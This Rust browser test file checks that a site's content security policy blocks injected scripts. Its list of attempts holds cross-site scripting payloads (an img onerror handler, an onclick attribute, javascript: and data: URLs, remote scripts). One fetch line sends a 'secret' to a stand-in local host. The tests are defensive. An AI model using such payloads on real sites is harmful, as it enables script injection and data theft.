//! P7: no text becomes a script, and a script that got into the page all the same does not run.

use crate::browser::{Browser, Driver, Setup};
use crate::page;
use crate::server::Server;
use crate::site;

/// What somebody who can change the page would try.
const ATTEMPTS: [(&str, &str); 7] = [
    (
        "a script in the page",
        "const one = document.createElement('script'); one.textContent = 'window.harmed = 1'; document.body.append(one)",
    ),
    (
        "markup from a text",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.harmed = 2\">')",
    ),
    (
        "a handler in an attribute",
        "const one = document.createElement('button'); one.setAttribute('onclick', 'window.harmed = 3'); document.body.append(one); one.click()",
    ),
    (
        "a script from elsewhere",
        "const one = document.createElement('script'); one.src = 'http://127.0.0.1:9/harm.js'; document.body.append(one)",
    ),
    (
        "a script as an address",
        "const one = document.createElement('a'); one.href = 'javascript:window.harmed=4'; document.body.append(one); one.click()",
    ),
    (
        "a script in data",
        "const one = document.createElement('script'); one.src = 'data:text/javascript,window.harmed=5'; document.body.append(one)",
    ),
    (
        "a script that lies on the same host",
        "const one = document.createElement('script'); one.src = '/harm.js'; document.body.append(one)",
    ),
];

/// The page's own policy, alone and with the host's headers.
pub(crate) async fn an_injected_script_does_not_run(driver: &Driver) {
    let site = site::copy("harmed", &site::built());
    std::fs::write(site.join("harm.js"), "window.harmed = 6").expect("a script");
    for headers in [false, true] {
        let server = Server::of(&site);
        if headers {
            server.send_headers();
        }
        let browser = Browser::start(driver, &Setup::fresh("injected")).await;
        browser.visit(&server.url("/")).await;
        page::running(&browser).await;
        page::kept(&browser).await;
        assert_eq!(browser.complaints().await, Vec::<String>::new(), "the page itself needs nothing that is forbidden");
        for (what, script) in ATTEMPTS {
            // Some of them throw, which is as good.
            browser.run(&format!("try {{ {script} }} catch {{}}")).await;
            // What was begun has its turn before the look.
            browser.settle("await new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))").await;
            assert_eq!(browser.run("return window.harmed ?? null").await, serde_json::Value::Null, "{what}");
        }
        let sent = "return fetch('http://127.0.0.1:9/?secret').then(() => 'sent', () => 'refused')";
        assert_eq!(browser.settle(sent).await, "refused", "nothing is sent elsewhere");
        assert!(
            !server.log().iter().any(|request| request.path == "/harm.js"),
            "no script is fetched but the site's own"
        );
        browser.close().await;
    }
}

/// Fault 21, in the browser: the words of a notice are words, on the list, under search and on their own page.
pub(crate) async fn hostile_words_are_shown_as_words(driver: &Driver) {
    let notices = site::seeds_and("hostile-notices", include_str!("../fixtures/notices/harmful-text.md"));
    let site = site::build("hostile", &notices, "/");
    let server = Server::of(&site);
    let browser = Browser::start(driver, &Setup::fresh("hostile")).await;
    for offer in &page::published(&site) {
        browser.visit(&server.url(&format!("/?q={}", offer.id.replace('-', "+")))).await;
        page::running(&browser).await;
        browser.visit(&server.url(&format!("/offres/{}/", offer.id))).await;
        page::running(&browser).await;
        page::reads(&browser, offer).await;
    }
    let foreign = "return [...document.querySelectorAll('main script, main iframe, main object, main [onclick], main [onerror]')].length";
    assert_eq!(browser.run(foreign).await, 0);
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.close().await;
}
